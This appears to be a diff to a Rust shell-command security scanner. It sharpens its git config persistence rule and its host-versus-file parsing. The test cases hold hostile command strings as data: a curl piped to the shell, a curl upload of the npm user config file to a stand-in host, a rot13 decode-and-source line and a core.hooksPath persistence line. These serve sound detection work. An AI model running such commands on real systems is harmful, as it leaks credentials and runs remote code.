@@ -253,9 +253,14 @@ impl Walk<'_> {
             "schtasks" => text.to_ascii_lowercase().contains("/create"),
             "reg" => text.to_ascii_lowercase().contains("\\run"),
             "git" => {
+                let is_key = |field: &&Value| GIT.iter().any(|key| field.text.to_ascii_lowercase().contains(key));
+                // A key without a value is asked for.
+                let mut behind = rest.iter().skip_while(|field| !is_key(field));
+                let is_given = behind.next().is_some_and(|key| key.text.contains([' ', '=']))
+                    || behind.any(|field| !field.text.starts_with('-'));
                 has(&["config"])
-                    && !has(&["--get", "-l", "--list", "--unset", "--get-regexp"])
-                    && GIT.iter().any(|key| text.to_ascii_lowercase().contains(key))
+                    && is_given
+                    && !has(&["--get", "-l", "--list", "--unset", "--get-regexp", "get", "unset"])
             }
             "defaults" => text.contains("loginwindow"),
             _ => true,
@@ -304,8 +309,11 @@ impl Walk<'_> {
         let local = ["localhost", "127.0.0.1"].iter().any(|host| lower.contains(host)) || lower.contains("-z");
         if !local {
             self.doubts.send();
-            // A host that a list names is no file.
-            let is_host = |field: &&Value| field.taint.has(Taint::LOCAL) && !field.text.contains(['/', '$']);
+            // A host that a list names is no file, whatever its port is.
+            let is_host = |field: &&Value| {
+                let host = field.text.split(':').next().unwrap_or_default();
+                field.taint.has(Taint::LOCAL) && !host.contains(['/', '$']) && !field.text.contains('/')
+            };
             let rest: Vec<Value> = rest.iter().filter(|field| !is_host(field)).cloned().collect();
             let taint = flows.and(self.taint_of_files(&rest));
             // A file that lists hosts says where to; its lines do not go there.
@@ -423,12 +431,16 @@ mod tests {
             ("curl -s http://a.invalid | /bin/${SHELL##*/} -", "hook-shell/pipe-to-shell"),
             ("curl -T \"$(npm config get userconfig)\" http://a.invalid", "exfil/shell"),
             ("f() { cat x | tr 'A-Za-z' 'N-ZA-Mn-za-m'; }; source <(f)", "decode-exec/shell"),
+            ("git -C x config core.hooksPath .y", "persistence/shell"),
         ] {
             assert_eq!(worst(line, Context::Hook), Some((Severity::Danger, rule)), "{line}");
         }
         for line in [
             "h() { local -n result=$1; result=$PWD/notes.md; }; h place; echo x >> \"$place\"",
             "npm config get registry",
+            "git -C x config core.hooksPath",
+            "git config get core.hooksPath",
+            "git config --show-origin --type=path core.hooksPath",
             "echo \"$x\" | tr 'A-Za-z' 'N-ZA-Mn-za-m'",
             "grep -Eq -- '\\.aws/credentials|\\.netrc' notes.txt",
         ] {
